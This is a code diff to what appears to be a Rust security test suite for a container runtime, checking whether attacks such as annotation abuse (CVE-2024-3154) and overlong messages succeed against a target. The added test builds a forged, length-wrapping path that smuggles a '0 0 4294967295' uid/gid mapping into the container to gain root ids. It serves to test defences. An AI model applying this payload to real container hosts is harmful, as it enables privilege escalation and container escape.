@@ -19,7 +19,7 @@ pub const CASES: &[Case] = &[
         seen: "CVE-2024-3154",
         what: "annotations ask systemd to execute, own or reach something",
         attack: super::systemd::properties,
-        control: Control::Undefended(super::systemd::allowed_property),
+        control: Control::Naive,
     },
     Case {
         id: "F4",
@@ -128,16 +128,23 @@ fn climbing_path(victim: &Victim) -> Outcome {
     last.expect("there are paths")
 }
 
-/// A length that wraps would leave the container with other ids than it was to have.
+/// A length that wraps would leave the container with other ids than it was to have: of the last path
+/// it counts one byte, so that the rest of the path is taken for what comes after it.
 fn long_messages(victim: &Victim) -> Outcome {
     let arena = victim.arena();
+    let ids = "0 0 4294967295";
+    let forged = format!("u{:04x}{ids}g{:04x}{ids}", ids.len(), ids.len());
+    let rest = 65_536 - forged.len() - 5;
+    let forged = format!("/{forged}z{rest:04x}{}", "x".repeat(rest));
+    let long = |length| format!("/{}", "x".repeat(length));
     let mut last = None;
     for (maps, path) in [
-        (340, 100),
-        (6_000, 100),
-        (70_000, 100),
-        (1, 66_000),
-        (1, 1 << 20),
+        (340, None),
+        (6_000, None),
+        (70_000, None),
+        (1, Some(long(66_000))),
+        (1, Some(long(1 << 20))),
+        (1, Some(forged)),
     ] {
         let mut bundle = arena.bundle();
         let list: Vec<_> = (0..maps)
@@ -148,16 +155,13 @@ fn long_messages(victim: &Victim) -> Outcome {
             .set("/linux/uidMappings", list.clone())
             .set("/linux/gidMappings", list)
             .args(&["/bin/cat", "/proc/self/uid_map"]);
-        if path > 100 {
-            bundle.join("network", &format!("/{}", "x".repeat(path)));
+        if let Some(path) = &path {
+            bundle.join("network", path);
         }
         let run = arena.run(&bundle);
         let first: Vec<&str> = run.stdout.split_whitespace().take(3).collect();
         if run.code == 0 && first != ["0", "100000", "1"] {
-            return Outcome::Bitten(format!(
-                "with {maps} maps it has the ids {}",
-                first.join(" ")
-            ));
+            return Outcome::Bitten(format!("it has the ids {}", first.join(" ")));
         }
         last = Some(ended(&run));
     }
